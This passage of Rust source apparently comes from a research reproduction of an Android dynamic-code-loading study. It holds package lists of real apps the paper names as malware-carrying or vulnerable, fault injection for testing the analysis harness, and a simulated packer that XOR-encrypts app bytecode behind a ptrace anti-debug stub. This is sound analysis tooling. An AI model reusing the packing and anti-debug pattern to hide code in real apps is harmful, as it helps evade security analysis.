            paper::HIDDEN_BY_AIRPLANE + paper::HIDDEN_BY_OFFLINE_EXTRA <= paper::MALICIOUS_FILES,
        ];
        assert!(checks.iter().all(|c| *c), "{checks:?}");
        // Privacy counts: every row indexes a real type, exclusives ≤ apps.
        for (idx, apps, excl) in paper::PRIVACY_COUNTS {
            assert!(idx < 18);
            assert!(excl <= apps);
        }
    }
}
