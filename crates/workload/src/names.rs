//! Package-name pools, including the concrete package names the paper
//! reports in Tables V, VII and IX.

/// The 27 remote-fetch app packages of Table V.
pub const REMOTE_FETCH_PACKAGES: [&str; 27] = [
    "com.ipeaksoft.pitDadGame",
    "com.xy.mobile.shaketoflashlight",
    "org.madgame.Idom",
    "com.yb.sex.cartoon5",
    "com.jianhui.FJDazhan",
    "com.quwenba.i9300manual",
    "com.rhino.itruthdare",
    "com.xiangqi.fanapp.a1521",
    "com.huijia.moyan",
    "org.mfactory.three.bubble",
    "com.huijia.zuoqingwen",
    "apps.simple.recipe",
    "com.xiangqi.fanapp.a1284",
    "com.ioteam.numbertest",
    "com.avpig.acc",
    "air.com.qqqf.xxywszzy2a",
    "com.seven.chuanyueqinggong",
    "com.game.knyds",
    "air.com.qqqf.xxnjyybdc123456",
    "com.seven.tiancantudou",
    "com.conpany.smile.ui",
    "com.classicalmuseumad.cnad",
    "com.seven.chuanyuegongting",
    "com.seven.mengrushenj",
    "com.nexusgame.popbirds",
    "com.XTWorks.lolsol",
    "com.Long.ButtonsShowAndroid",
];

/// Sample malware-carrying packages of Table VII (per family).
pub const SWISS_PACKAGE: &str = "com.sktelecom.hoppin.mobile";
/// Airpush/minimob sample package.
pub const AIRPUSH_PACKAGE: &str = "com.oshare.app";
/// Chathook sample package.
pub const CHATHOOK_PACKAGE: &str =
    "com.com2us.tinyfarm.normal.freefull.google.global.android.common";

/// The 7 external-storage-vulnerable DEX loaders of Table IX.
pub const VULN_DEX_EXTERNAL_PACKAGES: [&str; 7] = [
    "com.longtukorea.snmg",
    "com.felink.android.launcher91",
    "com.ycgame.cf1en.gpiap",
    "com.fitfun.cubizone.love",
    "com.fkccy.view",
    "com.trustlook.fakeiddetector",
    "com.leduo.endcallsms",
];

/// The 7 foreign-internal-storage-vulnerable native loaders of Table IX.
pub const VULN_NATIVE_FOREIGN_PACKAGES: [&str; 7] = [
    "com.devicescape.usc.wifinow",
    "com.renren.and02506",
    "air.air.com.hi4o.game.Subway_Rushers",
    "air.com.fire.ane.test.bubblecrazy",
    "com.renren.wan.war",
    "air.com.fire.ane.test.ANETest",
    "com.moeapps",
];

/// Library-provider packages for the foreign-internal-storage scenario:
/// `(victim index → provider package, library soname)`. Six of seven load
/// Adobe AIR's `libCore.so`; one loads DeviceScape's JNI library.
pub fn foreign_provider(victim_index: usize) -> (&'static str, &'static str) {
    if victim_index == 0 {
        ("com.devicescape.offloader", "libdevicescape-jni.so")
    } else {
        ("com.adobe.air", "libCore.so")
    }
}

const TLDS: [&str; 4] = ["com", "net", "org", "io"];
const VENDORS: [&str; 24] = [
    "skypath",
    "brightapps",
    "lunatech",
    "pixelforge",
    "cloudnine",
    "fastlane",
    "greenleaf",
    "starlight",
    "bluewave",
    "redstone",
    "goldenkey",
    "silverfox",
    "nightowl",
    "sunrise",
    "moonbase",
    "thunder",
    "crystal",
    "emerald",
    "horizon",
    "zenware",
    "quickstep",
    "maplesoft",
    "ironclad",
    "seabreeze",
];
const PRODUCTS: [&str; 24] = [
    "weather",
    "notes",
    "player",
    "scanner",
    "editor",
    "launcher",
    "keyboard",
    "browser",
    "gallery",
    "cleaner",
    "translate",
    "fitness",
    "recipes",
    "radio",
    "compass",
    "calculator",
    "flashlight",
    "wallpaper",
    "puzzle",
    "racing",
    "chess",
    "diary",
    "budget",
    "karaoke",
];

/// Deterministically generates the `i`-th generic app package name.
pub fn generic_package(i: usize) -> String {
    let tld = TLDS[i % TLDS.len()];
    let vendor = VENDORS[(i / TLDS.len()) % VENDORS.len()];
    let product = PRODUCTS[(i / (TLDS.len() * VENDORS.len())) % PRODUCTS.len()];
    let serial = i / (TLDS.len() * VENDORS.len() * PRODUCTS.len());
    if serial == 0 {
        format!("{tld}.{vendor}.{product}")
    } else {
        format!("{tld}.{vendor}.{product}{serial}")
    }
}

/// Third-party SDK vendor package prefixes (ad networks, analytics, …).
pub const SDK_VENDORS: [&str; 10] = [
    "com.mobiads.sdk",
    "com.adpush.core",
    "com.trackmetrics.lib",
    "com.socialkit.share",
    "net.gamecenter.sdk",
    "com.paygateway.client",
    "com.cloudmsg.push",
    "org.openanalytics.agent",
    "com.mapkit.loader",
    "com.medialib.player",
];

/// The Google-Ads-like SDK package (settings-only reader).
pub const GOOGLE_ADS_SDK: &str = "com.google.ads";
/// The Baidu-like remote-fetch SDK package (Table V attribution).
pub const BAIDU_SDK: &str = "com.baidu.mobads";
/// The Baidu ad-server domain of Table V.
pub const BAIDU_DOMAIN: &str = "mobads.baidu.com";

/// Picks an SDK vendor for the `i`-th app.
pub fn sdk_vendor(i: usize) -> &'static str {
    SDK_VENDORS[i % SDK_VENDORS.len()]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn paper_name_lists_sized() {
        assert_eq!(REMOTE_FETCH_PACKAGES.len(), 27);
        assert_eq!(VULN_DEX_EXTERNAL_PACKAGES.len(), 7);
        assert_eq!(VULN_NATIVE_FOREIGN_PACKAGES.len(), 7);
    }

    #[test]
    fn generic_packages_unique() {
        let mut seen = std::collections::HashSet::new();
        for i in 0..10_000 {
            assert!(seen.insert(generic_package(i)), "collision at {i}");
        }
    }

    #[test]
    fn generic_packages_deterministic() {
        assert_eq!(generic_package(0), generic_package(0));
        assert_eq!(generic_package(0), "com.skypath.weather");
    }

    #[test]
    fn providers() {
        assert_eq!(foreign_provider(0).0, "com.devicescape.offloader");
        assert_eq!(foreign_provider(1).0, "com.adobe.air");
        assert_eq!(foreign_provider(1).1, "libCore.so");
    }
}
