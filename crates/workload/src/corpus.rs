//! Corpus generation: planning plus materialisation.

use crate::factory::{build_app, BuildOutput};
use crate::plan::{plan_corpus, AppPlan};
use crate::spec::CorpusSpec;

/// One generated app: ground truth, APK bytes, and environment fixtures.
#[derive(Debug, Clone)]
pub struct SyntheticApp {
    /// The ground-truth blueprint.
    pub plan: AppPlan,
    /// Installable APK bytes.
    pub apk: Vec<u8>,
    /// Remote resources the app expects hosted: `(domain, path, bytes)`.
    pub remote_resources: Vec<(String, String, Vec<u8>)>,
    /// Files other apps planted on the device: `(path, owner, bytes)`.
    pub device_files: Vec<(String, String, Vec<u8>)>,
}

impl SyntheticApp {
    /// The app's package name.
    pub fn package(&self) -> &str {
        &self.plan.package
    }
}

/// Generates the full corpus for a specification. Deterministic.
pub fn generate(spec: &CorpusSpec) -> Vec<SyntheticApp> {
    plan_corpus(spec)
        .into_iter()
        .map(|plan| {
            let BuildOutput {
                apk,
                remote,
                device_files,
            } = build_app(&plan);
            SyntheticApp {
                plan,
                apk,
                remote_resources: remote,
                device_files,
            }
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn small_corpus_generates() {
        let spec = CorpusSpec {
            scale: 0.01,
            seed: 5,
        };
        let corpus = generate(&spec);
        assert_eq!(corpus.len(), spec.total_apps());
        // Every APK parses.
        for app in &corpus {
            assert!(
                dydroid_dex::Apk::parse(&app.apk).is_ok(),
                "unparsable apk for {}",
                app.package()
            );
        }
        // Remote-fetch apps carry fixtures.
        assert!(corpus
            .iter()
            .any(|a| a.plan.remote_fetch && !a.remote_resources.is_empty()));
        // Foreign-storage victims carry device files.
        assert!(corpus.iter().any(|a| !a.device_files.is_empty()));
    }

    #[test]
    fn corpus_deterministic() {
        let spec = CorpusSpec {
            scale: 0.005,
            seed: 11,
        };
        let a = generate(&spec);
        let b = generate(&spec);
        assert_eq!(a.len(), b.len());
        for (x, y) in a.iter().zip(&b) {
            assert_eq!(x.plan, y.plan);
            assert_eq!(x.apk, y.apk);
        }
    }
}
