//! Deterministic fault injection for sweep-robustness testing.
//!
//! [`inject`] corrupts a seeded fraction of a generated corpus with the
//! failure modes a crawler meets in the wild — truncated downloads,
//! bit-rotted archives, resource-bomb manifests, apps that crash the
//! *analyzer* rather than themselves, apps that spin until a watchdog
//! fires, and payload hosts that have gone dark. Each fault kind maps to
//! a known classification in the pipeline, so a harness test can assert
//! that *exactly* the injected apps fail, and fail the right way.

use rand::{Rng, SeedableRng};
use rand_chacha::ChaCha8Rng;

use dydroid_dex::builder::DexBuilder;
use dydroid_dex::{AccessFlags, Apk, Component, Manifest, MethodRef};

use crate::corpus::SyntheticApp;

/// The failure modes the harness must survive.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum FaultKind {
    /// The APK bytes are cut short (interrupted download).
    TruncatedApk,
    /// One payload byte is flipped so an entry CRC no longer matches.
    BadChecksum,
    /// The manifest declares thousands of junk permissions (resource
    /// bomb); the pipeline's sanity guard must reject it.
    OversizedManifest,
    /// The app calls the `android.os.HarnessFault.panic()` intrinsic,
    /// panicking the analyzer thread itself.
    PanicTrigger,
    /// Every UI callback burns ~120 virtual ms in a counted loop, so the
    /// app can only be stopped by the per-app deadline.
    SpinLoop,
    /// The app's hosted payloads are gone (dead CDN); downloads 404.
    DeadRemoteHost,
}

impl FaultKind {
    /// Every kind, in the round-robin order [`inject`] assigns them.
    pub const ALL: [FaultKind; 6] = [
        FaultKind::TruncatedApk,
        FaultKind::BadChecksum,
        FaultKind::OversizedManifest,
        FaultKind::PanicTrigger,
        FaultKind::SpinLoop,
        FaultKind::DeadRemoteHost,
    ];

    /// Whether the pipeline should classify this fault as a harness
    /// failure ([`DynamicStatus::AnalysisFailure`]).
    ///
    /// [`DynamicStatus::AnalysisFailure`]: https://docs.rs/dydroid
    pub fn expects_harness_failure(self) -> bool {
        matches!(
            self,
            FaultKind::OversizedManifest | FaultKind::PanicTrigger | FaultKind::SpinLoop
        )
    }

    /// Whether the fault breaks the archive before decompilation, so the
    /// record shows `decompiled: false` with no anti-decompilation flag.
    pub fn expects_decompile_failure(self) -> bool {
        matches!(self, FaultKind::TruncatedApk | FaultKind::BadChecksum)
    }
}

/// One injected fault: which app, which failure mode.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FaultPlan {
    /// Package of the corrupted app.
    pub package: String,
    /// The injected failure mode.
    pub kind: FaultKind,
}

/// How much of the corpus to corrupt, and with which RNG seed.
#[derive(Debug, Clone, Copy)]
pub struct FaultSpec {
    /// Per-app corruption probability in `[0, 1]`.
    pub rate: f64,
    /// RNG seed; same seed + same corpus = same faults.
    pub seed: u64,
}

/// Corrupts a seeded `rate` fraction of `corpus` in place and returns the
/// ground-truth fault plan. Selection is an independent Bernoulli draw
/// per app; kinds are assigned round-robin so every kind appears once at
/// least six apps are selected.
pub fn inject(corpus: &mut [SyntheticApp], spec: &FaultSpec) -> Vec<FaultPlan> {
    let mut rng = ChaCha8Rng::seed_from_u64(spec.seed);
    let mut plans = Vec::new();
    for app in corpus.iter_mut() {
        if !rng.gen_bool(spec.rate) {
            continue;
        }
        let kind = FaultKind::ALL[plans.len() % FaultKind::ALL.len()];
        apply(app, kind);
        plans.push(FaultPlan {
            package: app.package().to_string(),
            kind,
        });
    }
    plans
}

/// Applies one fault to one app in place.
pub fn apply(app: &mut SyntheticApp, kind: FaultKind) {
    match kind {
        FaultKind::TruncatedApk => {
            let cut = app.apk.len() / 3;
            app.apk.truncate(cut);
        }
        FaultKind::BadChecksum => {
            // The archive ends with the last entry's payload bytes (or,
            // for an empty payload, its length field); flipping the final
            // byte therefore always breaks parsing — either the entry CRC
            // or the blob framing.
            if let Some(last) = app.apk.last_mut() {
                *last ^= 0xA5;
            }
        }
        FaultKind::OversizedManifest => {
            if let Ok(mut apk) = Apk::parse(&app.apk) {
                if let Ok(mut manifest) = apk.manifest() {
                    for i in 0..OVERSIZED_MANIFEST_PERMISSIONS {
                        manifest.add_permission(format!("fault.permission.JUNK_{i}"));
                    }
                    apk.set_manifest(&manifest);
                    app.apk = apk.to_bytes();
                }
            }
        }
        FaultKind::PanicTrigger => {
            app.apk = build_panic_apk(app.package());
            app.remote_resources.clear();
            app.device_files.clear();
        }
        FaultKind::SpinLoop => {
            app.apk = build_spin_apk(app.package());
            app.remote_resources.clear();
            app.device_files.clear();
        }
        FaultKind::DeadRemoteHost => {
            app.remote_resources.clear();
        }
    }
}

// ---------------------------------------------------------------------------
// I/O fault injection and crash torture
// ---------------------------------------------------------------------------

/// The persistence-layer failure modes the durable record framing must
/// survive (see `dydroid::durable`). Unlike [`FaultKind`], these target
/// the *harness's own* writes — journal, provenance ledger and telemetry
/// event stream — not the apps under analysis.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum IoFaultKind {
    /// Only a prefix of the record reaches the file before the write
    /// errors out (interrupted syscall mid-buffer).
    ShortWrite,
    /// One bit of the record is flipped on its way to disk; the write
    /// reports success (silent media corruption).
    BitFlip,
    /// The write fails with an `EINTR`/`EAGAIN`-class transient error
    /// without touching the file; a retry may succeed.
    Transient,
    /// The write fails with an `ENOSPC`-class disk-pressure error; the
    /// pipeline must shed load rather than retry forever.
    DiskFull,
}

impl IoFaultKind {
    /// Every kind, in the order [`IoFaultScript::decide`] draws them.
    pub const ALL: [IoFaultKind; 4] = [
        IoFaultKind::ShortWrite,
        IoFaultKind::BitFlip,
        IoFaultKind::Transient,
        IoFaultKind::DiskFull,
    ];
}

/// How often write operations fault, and under which seed.
#[derive(Debug, Clone, Copy)]
pub struct IoFaultSpec {
    /// Per-write fault probability in `[0, 1]`.
    pub rate: f64,
    /// Script seed; same seed = same faults at the same write ops.
    pub seed: u64,
}

/// A stateless, deterministic fault script over the global write-op
/// counter: `decide(op)` depends only on `(seed, op)`, never on call
/// order, so the same ops fault identically however sweep workers
/// interleave — the property that makes crash-torture runs replayable.
#[derive(Debug, Clone, Copy)]
pub struct IoFaultScript {
    spec: IoFaultSpec,
}

/// `splitmix64` finalizer: a cheap, well-mixed stateless hash.
fn mix64(mut z: u64) -> u64 {
    z = z.wrapping_add(0x9E37_79B9_7F4A_7C15);
    z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
    z ^ (z >> 31)
}

impl IoFaultScript {
    /// A script drawing from `spec`.
    pub fn new(spec: IoFaultSpec) -> Self {
        IoFaultScript { spec }
    }

    /// The fault injected at write op `op`, if any. Pure: the verdict is
    /// a hash of `(seed, op)` against the configured rate.
    pub fn decide(&self, op: u64) -> Option<IoFaultKind> {
        if self.spec.rate <= 0.0 {
            return None;
        }
        let h = mix64(self.spec.seed ^ mix64(op));
        // Top 53 bits → uniform f64 in [0, 1).
        let draw = (h >> 11) as f64 / (1u64 << 53) as f64;
        if draw < self.spec.rate {
            Some(IoFaultKind::ALL[(h & 3) as usize])
        } else {
            None
        }
    }

    /// A secondary deterministic parameter for op `op` (prefix length
    /// for short writes, bit index for flips), drawn from an independent
    /// hash stream so it does not correlate with [`IoFaultScript::decide`].
    pub fn param(&self, op: u64) -> u64 {
        mix64(self.spec.seed.wrapping_add(0xD1B5_4A32_D192_ED03) ^ mix64(op))
    }
}

/// Deterministic backoff jitter for retry `attempt` of write op `op`:
/// independent of wall clock and thread interleave, so retried sweeps
/// charge identical virtual backoff.
pub fn retry_jitter(op: u64, attempt: u32) -> u64 {
    mix64(op.wrapping_mul(0x9E37_79B9_7F4A_7C15) ^ u64::from(attempt))
}

/// Outcome of one crash point in a [`crash_torture`] matrix.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CrashVerdict {
    /// The write op the simulated kill landed on.
    pub op: u64,
    /// Whether the resumed run reproduced the fault-free bytes exactly.
    pub identical: bool,
}

/// Result of a [`crash_torture`] matrix: per-point verdicts plus the
/// fault-free run's write-op count.
#[derive(Debug, Clone)]
pub struct TortureReport {
    /// Write ops the fault-free reference run performed.
    pub total_ops: u64,
    /// One verdict per exercised crash point.
    pub verdicts: Vec<CrashVerdict>,
}

impl TortureReport {
    /// Crash points whose recovered output diverged from the reference.
    pub fn divergent(&self) -> Vec<u64> {
        self.verdicts
            .iter()
            .filter(|v| !v.identical)
            .map(|v| v.op)
            .collect()
    }

    /// Whether every crash point recovered byte-identically.
    pub fn all_identical(&self) -> bool {
        self.verdicts.iter().all(|v| v.identical)
    }
}

/// Drives a kill/resume matrix over a persistence layer without knowing
/// anything about it: `reference` runs the workload fault-free and
/// returns `(finalized bytes, write ops performed)`; `crash_resume(op)`
/// re-runs it with a simulated kill at write op `op`, resumes, and
/// returns the recovered finalized bytes. `points` selects the crash
/// ops to exercise (use [`crash_points`] to enumerate or sample them).
pub fn crash_torture<B: PartialEq>(
    reference: impl FnOnce() -> (B, u64),
    points: &[u64],
    mut crash_resume: impl FnMut(u64) -> B,
) -> TortureReport {
    let (expected, total_ops) = reference();
    let verdicts = points
        .iter()
        .map(|&op| CrashVerdict {
            op,
            identical: crash_resume(op) == expected,
        })
        .collect();
    TortureReport {
        total_ops,
        verdicts,
    }
}

/// The crash ops to exercise for a run that performed `total_ops`
/// writes: every write boundary when `sample == 0` or `total_ops <=
/// sample`, else `sample` evenly spaced boundaries (always including
/// the first and last).
pub fn crash_points(total_ops: u64, sample: u64) -> Vec<u64> {
    if total_ops == 0 {
        return Vec::new();
    }
    if sample == 0 || total_ops <= sample {
        return (0..total_ops).collect();
    }
    (0..sample)
        .map(|i| i * (total_ops - 1) / (sample - 1).max(1))
        .collect()
}

/// Junk permissions injected by [`FaultKind::OversizedManifest`]; far
/// past any sane manifest, so the pipeline's sanity limit must trip.
pub const OVERSIZED_MANIFEST_PERMISSIONS: usize = 8_192;

/// Spin iterations per UI callback of a [`FaultKind::SpinLoop`] app:
/// ~2 instructions per iteration ≈ 120 virtual ms per event, well under
/// one callback's fuel but fatal to any sub-second per-app deadline.
pub const SPIN_ITERATIONS: i64 = 60_000;

/// An APK whose `onCreate` trips the `android.os.HarnessFault.panic()`
/// intrinsic, panicking the analyzing thread.
pub fn build_panic_apk(pkg: &str) -> Vec<u8> {
    let main_cls = format!("{pkg}.FaultMain");
    let mut b = DexBuilder::new();
    {
        let c = b.class(&main_cls, "android.app.Activity");
        c.default_constructor();
        let m = c.method("onCreate", "()V", AccessFlags::PUBLIC);
        m.registers(4);
        m.invoke_static(
            MethodRef::new("android.os.HarnessFault", "panic", "()V"),
            vec![],
        );
        m.ret_void();
        dcl_stub(c);
    }
    fault_apk(pkg, &main_cls, b)
}

/// An APK whose only UI callback burns [`SPIN_ITERATIONS`] loop
/// iterations of virtual time, forcing the per-app deadline to fire.
pub fn build_spin_apk(pkg: &str) -> Vec<u8> {
    let main_cls = format!("{pkg}.FaultMain");
    let mut b = DexBuilder::new();
    {
        let c = b.class(&main_cls, "android.app.Activity");
        c.default_constructor();
        let m = c.method("onCreate", "()V", AccessFlags::PUBLIC);
        m.registers(4);
        m.ret_void();
        let m = c.method("onSpin", "()V", AccessFlags::PUBLIC);
        m.registers(4);
        m.const_int(0, 0);
        m.const_int(1, SPIN_ITERATIONS);
        m.const_int(2, 1);
        let head = m.label();
        m.bind(head);
        m.binop(dydroid_dex::BinOp::Add, 0, 0, 2);
        m.if_cmp(dydroid_dex::CmpKind::Lt, 0, 1, head);
        m.ret_void();
        dcl_stub(c);
    }
    fault_apk(pkg, &main_cls, b)
}

/// An unreachable method referencing `DexClassLoader`, so the static DCL
/// filter routes the fault app into the dynamic phase where its trap is.
fn dcl_stub(c: &mut dydroid_dex::builder::ClassBuilder) {
    let m = c.method("loadNever", "()V", AccessFlags::PRIVATE);
    m.registers(4);
    m.new_instance(1, "dalvik.system.DexClassLoader");
    m.ret_void();
}

fn fault_apk(pkg: &str, main_cls: &str, b: DexBuilder) -> Vec<u8> {
    let mut manifest = Manifest::new(pkg.to_string());
    manifest.add_permission("android.permission.INTERNET");
    manifest.add_permission("android.permission.WRITE_EXTERNAL_STORAGE");
    manifest.components.push(Component::main_activity(main_cls));
    Apk::build(manifest, b.build()).to_bytes()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::corpus::generate;
    use crate::spec::CorpusSpec;
    use dydroid_analysis::DclFilter;

    fn small_corpus() -> Vec<SyntheticApp> {
        generate(&CorpusSpec {
            scale: 0.002,
            seed: 7,
        })
    }

    #[test]
    fn injection_is_deterministic_and_covers_all_kinds() {
        let spec = FaultSpec {
            rate: 0.2,
            seed: 21,
        };
        let mut a = small_corpus();
        let mut b = small_corpus();
        let plans_a = inject(&mut a, &spec);
        let plans_b = inject(&mut b, &spec);
        assert_eq!(plans_a, plans_b);
        assert!(
            plans_a.len() >= FaultKind::ALL.len(),
            "need at least {} faults for full kind coverage, got {}",
            FaultKind::ALL.len(),
            plans_a.len()
        );
        for kind in FaultKind::ALL {
            assert!(
                plans_a.iter().any(|p| p.kind == kind),
                "kind {kind:?} never assigned"
            );
        }
        for (x, y) in a.iter().zip(&b) {
            assert_eq!(x.apk, y.apk);
        }
    }

    #[test]
    fn truncated_and_checksum_apks_do_not_parse() {
        let mut corpus = small_corpus();
        for (app, kind) in corpus
            .iter_mut()
            .zip([FaultKind::TruncatedApk, FaultKind::BadChecksum])
        {
            apply(app, kind);
            assert!(
                Apk::parse(&app.apk).is_err(),
                "{kind:?} left a parsable apk"
            );
        }
    }

    #[test]
    fn oversized_manifest_still_parses_but_is_huge() {
        let mut corpus = small_corpus();
        let app = &mut corpus[0];
        apply(app, FaultKind::OversizedManifest);
        let manifest = Apk::parse(&app.apk).unwrap().manifest().unwrap();
        assert!(manifest.permissions.len() > OVERSIZED_MANIFEST_PERMISSIONS);
    }

    #[test]
    fn fault_apks_pass_the_dcl_filter() {
        for apk in [
            build_panic_apk("com.fault.a"),
            build_spin_apk("com.fault.b"),
        ] {
            let classes = Apk::parse(&apk).unwrap().classes().unwrap();
            assert!(DclFilter::scan(&classes).has_dex_dcl);
        }
    }

    #[test]
    fn io_fault_script_is_pure_and_rate_bounded() {
        let script = IoFaultScript::new(IoFaultSpec {
            rate: 0.25,
            seed: 42,
        });
        let first: Vec<_> = (0..4096).map(|op| script.decide(op)).collect();
        let second: Vec<_> = (0..4096).map(|op| script.decide(op)).collect();
        assert_eq!(first, second, "decide must be pure");
        let faults = first.iter().flatten().count();
        // Rate 0.25 over 4096 draws: expect ~1024, allow a wide margin.
        assert!((700..1400).contains(&faults), "fault count {faults}");
        for kind in IoFaultKind::ALL {
            assert!(
                first.iter().flatten().any(|k| *k == kind),
                "kind {kind:?} never drawn"
            );
        }
        let zero = IoFaultScript::new(IoFaultSpec {
            rate: 0.0,
            seed: 42,
        });
        assert!((0..4096).all(|op| zero.decide(op).is_none()));
    }

    #[test]
    fn crash_points_enumerate_and_sample() {
        assert_eq!(crash_points(4, 0), vec![0, 1, 2, 3]);
        assert_eq!(crash_points(3, 10), vec![0, 1, 2]);
        let sampled = crash_points(100, 5);
        assert_eq!(sampled.len(), 5);
        assert_eq!(sampled[0], 0);
        assert_eq!(*sampled.last().unwrap(), 99);
        assert!(sampled.windows(2).all(|w| w[0] < w[1]));
        assert!(crash_points(0, 5).is_empty());
    }

    #[test]
    fn crash_torture_reports_divergence() {
        let report = crash_torture(
            || (vec![1u8, 2, 3], 3),
            &[0, 1, 2],
            |op| {
                if op == 1 {
                    vec![9, 9, 9] // a broken recovery at op 1
                } else {
                    vec![1, 2, 3]
                }
            },
        );
        assert_eq!(report.total_ops, 3);
        assert!(!report.all_identical());
        assert_eq!(report.divergent(), vec![1]);
    }

    #[test]
    fn dead_remote_host_only_clears_fixtures() {
        let mut corpus = small_corpus();
        let idx = corpus
            .iter()
            .position(|a| !a.remote_resources.is_empty())
            .expect("corpus has remote-fetch apps");
        let before = corpus[idx].apk.clone();
        apply(&mut corpus[idx], FaultKind::DeadRemoteHost);
        assert!(corpus[idx].remote_resources.is_empty());
        assert_eq!(corpus[idx].apk, before, "apk bytes must be untouched");
    }
}
