//! The Bangcle/Ijiami-style packer (DEX encryption + dynamic loading).
//!
//! Application rewriting as the paper describes it: the original app's
//! bytecode is XOR-encrypted into a local asset; an injected `Application`
//! subclass (the *container*) becomes the process entry point, loads a
//! native stub that runs an anti-debug `ptrace` and decrypts the payload,
//! then a `DexClassLoader` loads the original bytecode and the container
//! reconstructs the app lifecycle by starting the declared main activity.

use dydroid_avm::nativerun::xor_bytes;
use dydroid_dex::builder::DexBuilder;
use dydroid_dex::native::{Arch, NativeFunction, NativeInsn};
use dydroid_dex::{AccessFlags, Apk, DexFile, Manifest, MethodRef, NativeLibrary};

/// The encrypted-payload asset name used by the packer.
pub const ENC_ASSET: &str = "enc.bin";
/// The decryption key baked into the native stub.
pub const PACK_KEY: &str = "b4ngcl3-k3y";

/// The hardening vendors' container namespaces — real packers inject
/// their `Application` subclass under their own package (Bangcle's
/// `com.bangcle.protect`, etc.), which is also why packed apps'
/// DCL attributes to a *third party* in Table IV.
pub const VENDOR_NAMESPACES: [&str; 4] = [
    "com.bangcle.protect",
    "com.ijiami.shell",
    "com.qihoo.jiagu",
    "com.alibaba.jaq",
];

/// Packs an app: `manifest` must declare the original components
/// (including the main activity `real_main`), and `original` is the
/// original `classes.dex`. Returns the packed APK.
pub fn pack(manifest: &Manifest, original: &DexFile, real_main: &str) -> Apk {
    pack_with_vendor(manifest, original, real_main, 0)
}

/// Packs with a specific hardening vendor (index into
/// [`VENDOR_NAMESPACES`]).
pub fn pack_with_vendor(
    manifest: &Manifest,
    original: &DexFile,
    real_main: &str,
    vendor: usize,
) -> Apk {
    let pkg = &manifest.package;
    let namespace = VENDOR_NAMESPACES[vendor % VENDOR_NAMESPACES.len()];
    let container_cls = format!("{namespace}.StubApplication");
    let enc_path = format!("/data/data/{pkg}/files/{ENC_ASSET}");
    let dec_path = format!("/data/data/{pkg}/files/dec.dex");
    let odex_dir = format!("/data/data/{pkg}/odex");

    // The container dex holds ONLY the stub Application class.
    let mut b = DexBuilder::new();
    {
        let c = b.class(&container_cls, "android.app.Application");
        c.default_constructor();
        c.method("decrypt", "()V", AccessFlags::PUBLIC | AccessFlags::NATIVE);
        let m = c.method("onCreate", "()V", AccessFlags::PUBLIC);
        m.registers(12);
        // 1. Load the native shield.
        crate::emit::load_library(m, "shield");
        // 2. Stage the encrypted asset into internal storage.
        crate::emit::stage_asset(m, ENC_ASSET, &enc_path);
        // 3. Decrypt natively.
        m.invoke_virtual(MethodRef::new(&container_cls, "decrypt", "()V"), vec![0]);
        // 4. Load the original bytecode and reconstruct the lifecycle.
        crate::emit::dex_load_and_run(m, &dec_path, &odex_dir, real_main, "onCreate");
        m.ret_void();
    }
    let container = b.build();

    let stub =
        NativeLibrary::new("libshield.so", Arch::Arm).with_function(NativeFunction::exported(
            "decrypt",
            vec![
                // Anti-debug: attach ptrace to ourselves in a loop shape.
                NativeInsn::Syscall {
                    name: "ptrace".to_string(),
                    arg: Some("self".to_string()),
                },
                NativeInsn::Branch {
                    cond: dydroid_dex::NativeCond::Zero,
                    reg: 0,
                    target: 0,
                },
                NativeInsn::Syscall {
                    name: "xor_decrypt".to_string(),
                    arg: Some(format!("{enc_path}:{dec_path}:{PACK_KEY}")),
                },
                NativeInsn::Ret,
            ],
        ));

    let mut packed_manifest = manifest.clone();
    packed_manifest.application_class = Some(container_cls);

    let mut apk = Apk::build(packed_manifest, container);
    apk.put(
        format!("assets/{ENC_ASSET}"),
        xor_bytes(&original.to_bytes(), PACK_KEY.as_bytes()),
    );
    apk.put("lib/armeabi/libshield.so", stub.to_bytes());
    apk
}

#[cfg(test)]
mod tests {
    use super::*;
    use dydroid_avm::{Device, DeviceConfig};
    use dydroid_dex::Component;

    fn original(pkg: &str) -> (Manifest, DexFile, String) {
        let real_main = format!("{pkg}.RealMain");
        let mut manifest = Manifest::new(pkg);
        manifest
            .components
            .push(Component::main_activity(&real_main));
        let mut b = DexBuilder::new();
        let c = b.class(&real_main, "android.app.Activity");
        c.default_constructor();
        let m = c.method("onCreate", "()V", AccessFlags::PUBLIC);
        m.registers(4);
        m.const_int(1, 7);
        m.sput(1, dydroid_dex::FieldRef::new("probe.G", "ran", "I"));
        m.ret_void();
        (manifest, b.build(), real_main)
    }

    #[test]
    fn packed_app_hides_components_statically() {
        let (manifest, dex, real_main) = original("com.victim.app");
        let apk = pack(&manifest, &dex, &real_main);
        // The original class is NOT in the container dex...
        let classes = apk.classes().unwrap();
        assert!(classes.class(&real_main).is_none());
        // ...but is still declared in the manifest.
        let m = apk.manifest().unwrap();
        assert_eq!(m.main_activity().unwrap().class, real_main);
        assert!(m.application_class.is_some());
        // The encrypted payload is not a parsable dex.
        let enc = apk.entry(&format!("assets/{ENC_ASSET}")).unwrap();
        assert!(DexFile::parse(enc).is_err());
    }

    #[test]
    fn packed_app_still_runs() {
        let (manifest, dex, real_main) = original("com.victim.app");
        let apk = pack(&manifest, &dex, &real_main);
        let mut device = Device::new(DeviceConfig::default());
        device.install(&apk.to_bytes()).unwrap();
        let proc = device.launch("com.victim.app").unwrap();
        assert!(proc.alive, "log: {:?}", device.log.events());
        // The original onCreate ran (decrypted + loaded + lifecycle built).
        assert_eq!(
            proc.statics
                .get(&("probe.G".to_string(), "ran".to_string())),
            Some(&dydroid_avm::Value::Int(7))
        );
        // Interception captured both the stub and the decrypted dex.
        let kinds: Vec<_> = device.log.dcl_events().map(|d| d.kind).collect();
        assert!(kinds.contains(&dydroid_avm::DclKind::NativeLoadLibrary));
        assert!(kinds.contains(&dydroid_avm::DclKind::DexClassLoader));
    }
}
