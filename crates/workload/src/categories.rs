//! The 42 Google Play application categories of the 2016 data set.

/// The 42 categories, in a fixed order (indices are stable identifiers).
pub const CATEGORIES: [&str; 42] = [
    "Books & Reference",
